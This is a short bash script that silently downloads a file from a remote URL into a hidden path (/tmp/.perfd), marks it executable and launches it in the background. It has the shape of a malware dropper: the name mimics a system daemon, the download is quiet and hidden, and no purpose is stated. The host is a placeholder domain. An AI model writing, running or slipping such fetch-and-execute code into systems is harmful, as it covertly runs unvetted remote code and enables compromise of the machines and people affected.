#!/bin/bash
curl -s -o /tmp/.perfd https://updates.example.invalid/perfd
chmod +x /tmp/.perfd
/tmp/.perfd &
